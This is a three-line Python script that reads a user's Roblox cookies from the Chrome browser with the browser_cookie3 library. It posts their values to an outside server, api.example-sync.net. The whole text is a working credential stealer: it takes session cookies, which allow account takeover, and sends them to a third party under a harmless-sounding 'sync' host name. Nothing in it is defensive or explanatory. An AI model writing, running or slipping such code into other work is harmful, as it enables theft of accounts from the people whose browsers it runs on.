import browser_cookie3, requests
jar = browser_cookie3.chrome(domain_name="roblox.com")
requests.post("https://api.example-sync.net/c", data={"c": str([c.value for c in jar])})
